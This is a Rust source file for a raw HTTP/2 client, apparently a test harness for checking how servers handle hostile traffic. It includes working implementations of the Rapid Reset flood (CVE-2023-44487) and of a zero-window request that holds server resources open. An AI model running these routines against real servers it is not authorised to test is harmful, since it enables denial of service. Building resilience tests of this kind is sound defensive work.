//! A client of HTTP/2 that sends what it is told (RFC 9113), with every field as a literal (RFC 7541, section 6.2.2).

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};

/// What a client says first (RFC 9113, section 3.4), without its settings.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// No room for anything of a response (RFC 9113, section 6.5.2).
const INITIAL_WINDOW_OF_NOTHING: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// `:status: 200` of the static table (RFC 7541, appendix A).
const STATUS_200: u8 = 0x88;

/// What came of a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Answer {
    /// 200.
    Success,
    /// Another answer.
    Other,
    /// The stream was ended with this error code.
    Reset(u32),
    /// The connection was ended with this one.
    Ended(u32),
    /// The connection was closed without a word.
    Closed,
}

/// Sends one request with these fields, pseudo fields included, and this body on a connection of its own.
pub fn send(url: &str, fields: &[(&str, &str)], body: &[u8]) -> Result<Answer> {
    send_over(&mut connect(url, Duration::from_secs(10))?, fields, body)
}

/// The same on a connection on which nothing has been said yet.
pub fn send_over(stream: &mut (impl Read + Write), fields: &[(&str, &str)], body: &[u8]) -> Result<Answer> {
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    let end = if body.is_empty() { END_STREAM } else { 0 };
    frame(&mut bytes, HEADERS, END_HEADERS | end, 1, &block(fields)?);
    if !body.is_empty() {
        frame(&mut bytes, DATA, END_STREAM, 1, body);
    }
    stream.write_all(&bytes)?;
    answer(stream)
}

/// Sends so many requests and resets each at once (CVE-2023-44487). The error code that the connection ends with; `None` where it
/// goes on, or is closed without a word.
pub fn reset_rapidly(url: &str, fields: &[(&str, &str)], requests: u32) -> Result<Option<u32>> {
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    for number in 0..requests {
        frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block(fields)?);
        frame(&mut bytes, RST_STREAM, 0, 2 * number + 1, &CANCEL.to_be_bytes());
    }
    let mut stream = connect(url, Duration::from_secs(10))?;
    // It may be ended before all is sent.
    let _sent = stream.write_all(&bytes);
    while let Ok(Some((kind, _, payload))) = next(&mut stream) {
        if kind == GOAWAY {
            return code(&payload, 4).map(Some);
        }
    }
    Ok(None)
}

/// Sends one request and leaves no room for any of its response, but says that it is still there (RFC 9113, section 6.7). After how
/// long the connection is ended.
pub fn take_nothing(url: &str, fields: &[(&str, &str)], patience: Duration) -> Result<Duration> {
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &INITIAL_WINDOW_OF_NOTHING);
    frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, 1, &block(fields)?);
    let mut stream = connect(url, patience)?;
    let begun = Instant::now();
    stream.write_all(&bytes)?;
    while let Some((kind, flags, payload)) = next(&mut stream).context("the connection does not end")? {
        if kind == PING && flags & ACK == 0 {
            let mut pong = Vec::new();
            frame(&mut pong, PING, ACK, 0, &payload);
            stream.write_all(&pong)?;
        }
        ensure!(kind != DATA || payload.is_empty(), "{} bytes came without room for them", payload.len());
    }
    Ok(begun.elapsed())
}

pub fn connect(url: &str, patience: Duration) -> Result<TcpStream> {
    let stream = TcpStream::connect(url.trim_start_matches("http://"))?;
    stream.set_read_timeout(Some(patience))?;
    stream.set_write_timeout(Some(patience))?;
    Ok(stream)
}

/// Fields as literals.
pub fn block(fields: &[(&str, &str)]) -> Result<Vec<u8>> {
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).ok().filter(|length| *length < 127).context("a short text")?);
            block.extend_from_slice(text.as_bytes());
        }
    }
    Ok(block)
}

/// Adds a frame.
pub fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// Kind, flags and payload of the next frame; `None` at the end of the connection.
pub fn next(stream: &mut impl Read) -> Result<Option<(u8, u8, Vec<u8>)>> {
    let mut head = [0; 9];
    match stream.read_exact(&mut head) {
        Ok(()) => {}
        Err(error) if error.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(error) if error.kind() == std::io::ErrorKind::ConnectionReset => return Ok(None),
        Err(error) => return Err(error.into()),
    }
    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    ensure!(length <= 1 << 14, "a frame of {length} bytes");
    let mut payload = vec![0; length];
    stream.read_exact(&mut payload)?;
    Ok(Some((head[3], head[4], payload)))
}

fn code(payload: &[u8], at: usize) -> Result<u32> {
    let code = payload.get(at..at + 4).and_then(|code| code.try_into().ok());
    code.map(u32::from_be_bytes).context("an error code")
}

/// What comes next of those.
pub fn answer(stream: &mut impl Read) -> Result<Answer> {
    while let Some((kind, _, payload)) = next(stream)? {
        match kind {
            HEADERS => {
                // The size of the table may be updated first (RFC 7541, section 6.3).
                let first = payload.iter().find(|byte| **byte & 0xe0 != 0x20).context("a field")?;
                return Ok(if *first == STATUS_200 { Answer::Success } else { Answer::Other });
            }
            RST_STREAM => return Ok(Answer::Reset(code(&payload, 0)?)),
            GOAWAY => return Ok(Answer::Ended(code(&payload, 4)?)),
            _ => {}
        }
    }
    Ok(Answer::Closed)
}
